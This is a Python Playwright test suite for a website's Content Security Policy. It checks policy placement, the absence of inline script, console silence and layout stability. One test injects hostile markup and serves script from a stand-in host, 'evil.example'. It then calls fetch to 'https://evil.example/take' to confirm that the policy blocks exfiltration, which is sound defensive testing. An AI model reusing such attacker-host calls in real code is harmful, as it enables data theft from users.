"""Content security: a strict policy first in every page, kept by every page, and safe from injection."""

import re
from base64 import b64encode
from hashlib import sha256
from pathlib import Path

from playwright.sync_api import Route

from conftest import pages

from .conftest import Open, serve

FIXTURE = Path(__file__).parent / "fixtures/injected.html"
POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'sha256-{}'; img-src data:; connect-src 'self'; "
    "base-uri 'none'; form-action 'self'"
)
WATCH = """
globalThis.refused = [];
const note = (e) => refused.push(`${e.effectiveDirective} ${e.blockedURI}`);
document.addEventListener("securitypolicyviolation", note);
// A text that arrives grows line by line: it may move until it is whole. What is above it may never move.
globalThis.shift = 0;
const inText = ({ node }) => node && document.getElementById("begin")?.compareDocumentPosition(node) & 4;
new PerformanceObserver((list) => list.getEntries().forEach((entry) => {
  const whole = performance.getEntriesByType("navigation")[0].domInteractive;
  if ((whole && entry.startTime > whole) || !entry.sources.every(inText)) shift += entry.value;
})).observe({ type: "layout-shift", buffered: true });
"""


def test_the_policy_comes_first_and_nothing_is_inline(site: Path) -> None:
    for address, tree in pages(site):
        first, second = tree.xpath("/html/head/*")[:2]
        assert first.get("charset") == "utf-8", address
        assert second.get("http-equiv") == "Content-Security-Policy", address
        # The style in the page is named by its hash; the policy refuses any other.
        (style,) = tree.iter("style")
        digest = b64encode(sha256((style.text or "").encode()).digest()).decode()
        assert second.get("content") == POLICY.format(digest), address
        assert tree.xpath("//meta[@name='referrer']/@content") == ["no-referrer"], address
        scripts = tree.xpath("//script[not(@src) and not(@type='application/ld+json')]")
        handlers = [name for name in tree.xpath("//@*") if re.match("on", name.attrname or "", re.I)]
        assert not (scripts + handlers + tree.xpath("//@style | //base")), address
        assert not tree.xpath("//@href[starts-with(., 'javascript:')]"), address


def test_no_page_is_refused_anything_says_anything_or_moves(
    window: Open, server: str, sample: dict[str, list[str]]
) -> None:
    page, said = window(412), []
    page.add_init_script(WATCH)
    page.on("console", lambda message: said.append(f"{page.url} console: {message.text}"))
    page.on("pageerror", lambda error: said.append(f"{page.url} error: {error}"))
    page.on("requestfailed", lambda request: said.append(f"{request.url} failed: {request.failure}"))
    page.on("request", lambda r: None if r.url.startswith(server) else said.append(f"asks {r.url}"))
    for place in (place for places in sample.values() for place in places):
        page.goto(server + place)
        # A shift counts until the page has come to rest.
        page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
        said += [f"/{place} refused: {what}" for what in page.evaluate("refused")]
        said += [f"/{place} moves by {shift}" for shift in [page.evaluate("shift")] if shift]
    assert not said, "\n".join(said[:40])


def test_nothing_moves_on_a_slow_line(window: Open, site: Path, sample: dict[str, list[str]]) -> None:
    page, moved = window(412), []
    page.add_init_script(WATCH)
    with serve(site, pause=0.005) as server:
        for place in ["", *sample["ar"]]:
            page.goto(server + place)
            moved += [f"/{place} moves by {shift}" for shift in [page.evaluate("shift")] if shift]
    assert not moved, "\n".join(moved)


def test_what_is_injected_does_nothing(window: Open, server: str) -> None:
    page, asked = window(), []

    def add(route: Route) -> None:
        text, fixture = route.fetch().text(), FIXTURE.read_text("utf-8")
        body = re.sub("<main[^>]*>", lambda main: main[0] + fixture, text, count=1)
        route.fulfill(body=body, content_type="text/html; charset=utf-8")

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="globalThis.taken = ['from evil.example']", content_type="text/javascript")

    page.add_init_script(WATCH)
    page.route("https://evil.example/**", answer)
    page.route(f"{server}ar/circular/", add)
    page.goto(f"{server}ar/circular/")
    assert page.evaluate("document.querySelectorAll('main script').length") == 3
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).display") == "block"
    assert page.evaluate("getComputedStyle(document.querySelector('#styled')).position") == "static"
    page.evaluate("document.querySelector('#run').click()")
    page.evaluate("document.querySelector('#send').click()")
    sent = page.evaluate("fetch('https://evil.example/take').then(() => 'sent', () => 'refused')")
    assert (sent, page.evaluate("globalThis.taken"), asked) == ("refused", None, [])
    assert page.url == page.evaluate("document.baseURI") == f"{server}ar/circular/"
    assert {what.split()[0] for what in page.evaluate("refused")} >= {
        *("base-uri", "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src"),
        *("frame-src", "object-src", "media-src", "form-action", "connect-src"),
    }
